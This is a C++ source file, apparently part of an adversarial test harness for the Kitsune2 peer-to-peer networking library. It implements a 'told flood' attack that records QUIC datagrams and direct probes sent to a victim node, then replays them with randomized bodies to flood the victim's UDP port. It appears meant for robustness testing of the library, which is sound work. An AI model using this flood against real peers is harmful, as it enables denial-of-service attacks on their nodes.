// The attackers of hostile.py that have a direct path to the victim, and then flood its UDP port with the names that
// they were told on it: those of a connection that is over, or of one that lives.
#include <algorithm>
#include <mutex>
#include <random>
#include <utility>

#include "hostile_attack.hpp"
#include "kitsune2/fetch.hpp"
#include "kitsune2/transport_iroh.hpp"
#include "net/udp_socket.hpp"
#include "net/ws_connector.hpp"
#include "support/whole_messages.hpp"
#include "transport/iroh/direct_packets.hpp"
#include "wire/k2proto.hpp"

using namespace std::chrono_literals;

namespace kitsune2::hostile {
namespace {

/// What was sent directly.
struct Recorded {
  std::vector<Datagram> of_quic, probes;
  std::string place;  ///< where to
};

class RecordingSocket final : public UdpSocket {
 public:
  RecordingSocket(std::shared_ptr<UdpSocket> socket, Recorded& recorded)
      : socket_(std::move(socket)), recorded_(recorded) {}
  bool send(const UdpAddress& to, ByteView content, std::size_t segment_bytes) override {
    const ByteView first = content.first(std::min(segment_bytes, content.size()));
    auto& these = iroh::is_probe(first) ? recorded_.probes : recorded_.of_quic;
    if (these.size() < 64) these.emplace_back(first.begin(), first.end());
    recorded_.place = to.to_string();
    return socket_->send(to, content, segment_bytes);
  }
  std::vector<UdpAddress> addresses() const override { return socket_->addresses(); }
  void let_in_only(const DatagramFilter& filter) override { socket_->let_in_only(filter); }
  void close() override { socket_->close(); }

 private:
  const std::shared_ptr<UdpSocket> socket_;
  Recorded& recorded_;
};

class RecordingBinder final : public UdpBinder {
 public:
  RecordingBinder(AsioRuntime& runtime, Recorded& recorded) : binder_(make_udp_binder(runtime)), recorded_(recorded) {}
  Result<std::shared_ptr<UdpSocket>> bind(const UdpAddress& address, UdpHandlers handlers) override {
    auto socket = binder_->bind(address, std::move(handlers));
    if (!socket) return socket.error();
    return std::shared_ptr<UdpSocket>(std::make_shared<RecordingSocket>(*socket, recorded_));
  }

 private:
  const std::shared_ptr<UdpBinder> binder_;
  Recorded& recorded_;
};

class ToldFlood final : public Attack, private TransportEvents {
 public:
  ToldFlood(AsioRuntime& runtime, const Plan& plan)
      : runtime_(runtime), plan_(plan), http_(make_http_client(runtime)), ids_(all_ids(plan.ops, plan.size)) {}
  void start() override {
    IrohTransportConfig config;
    config.relay_url = plan_.relay;
    config.relay_allow_plain_text = true;
    config.direct_paths = true;
    std::array<std::uint8_t, 32> seed{};
    runtime_.random_bytes(seed);
    transport_ = need(make_iroh_transport(runtime_, make_ws_connector(runtime_), config, seed, {}, nullptr,
                                          std::make_shared<RecordingBinder>(runtime_, recorded_)));
    transport_->start(*this);
    turn();
  }
  Tally tally() const override { return flood_ ? flood_->tally() : Tally{}; }
  std::size_t peers() const override { return flood_ ? flood_->peers() : 0; }

 private:
  void new_listening_address(const Url& own) override {
    if (listing_) return;
    listing_ = std::make_shared<Listing>(runtime_, *http_, plan_, own);
    listing_->begin([] {});
  }
  void listening_address_lost() override {}
  Result<Bytes> peer_connect(const Url&) override { return wire::encode_preflight({}); }
  Result<void> recv_data(const Url&, Bytes) override { return {}; }
  void recv_progress(const Url&, std::size_t) override {}
  void peer_disconnect(const Url&, const std::optional<std::string>&) override {}
  bool shares_space(const Url&) override { return true; }

  /// Asks for an op now and then, until it has the names.
  void turn() {
    if (recorded_.of_quic.size() >= 8 && !recorded_.probes.empty()) return go_on();
    if (listing_) {
      const std::span<const OpId> one = std::span(ids_).subspan(next_++ % ids_.size(), 1);
      transport_->send(plan_.victim, wire::whole_fetch_request(plan_.space, one), [](const Result<void>&) {});
    }
    runtime_.schedule_after(50ms, [this] { turn(); });
  }
  void go_on() {
    if (plan_.kind == "told-used") return flood();
    transport_->stop([this] { runtime_.schedule_after(500ms, [this] { flood(); }); });
  }
  /// Their names, and nonsense behind them.
  void flood() {
    std::mt19937_64 random(1);
    std::vector<FloodPart> parts(2);
    for (std::size_t i = 0; i < 512; ++i) {
      Datagram quic = recorded_.of_quic[i % recorded_.of_quic.size()];
      quic.resize(random() % 2 == 0 ? 1200 : 40);
      for (std::size_t at = 9; at < quic.size(); ++at) quic[at] = static_cast<std::uint8_t>(random());
      parts[0].datagrams.push_back(std::move(quic));
      parts[1].datagrams.push_back(recorded_.probes[i % recorded_.probes.size()]);
      parts[1].datagrams.back().resize(iroh::DirectProbe::kBytes);
    }
    flood_ = make_datagram_flood(plan_, recorded_.place, std::move(parts));
    flood_->start();
  }

  AsioRuntime& runtime_;
  const Plan plan_;
  std::unique_ptr<HttpClient> http_;
  const std::vector<OpId> ids_;
  Recorded recorded_;
  std::unique_ptr<TransportBackend> transport_;
  std::shared_ptr<Listing> listing_;
  std::size_t next_ = 0;
  std::unique_ptr<Attack> flood_;
};

}  // namespace

std::unique_ptr<Attack> make_told_flood(AsioRuntime& runtime, const Plan& plan) {
  if (plan.kind != "told-left" && plan.kind != "told-used") return nullptr;
  return std::make_unique<ToldFlood>(runtime, plan);
}

}  // namespace kitsune2::hostile
